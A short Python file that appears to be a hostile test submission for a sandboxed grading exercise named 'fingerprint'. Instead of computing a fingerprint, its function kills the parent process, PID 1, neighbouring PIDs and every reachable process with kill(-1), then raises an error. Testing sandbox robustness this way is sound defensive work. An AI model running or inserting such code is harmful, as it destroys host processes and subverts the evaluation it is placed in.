"""tries: to kill whoever started it: the parent, the first process, its own group, and everybody at once"""

# exercise: fingerprint
# earns: none
import os
import signal


def shoot(pid, sign):
    try:
        os.kill(pid, sign)
    except OSError:
        pass


def fingerprint(data):
    for sign in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for pid in (os.getppid(), 1, os.getppid() + 1, os.getppid() - 1):
            if pid not in (os.getpid(), 0):
                shoot(pid, sign)
    shoot(-1, signal.SIGKILL)
    shoot(0, signal.SIGKILL)
    raise RuntimeError("wrong")


def differing_bits(a, b):
    raise RuntimeError("wrong")
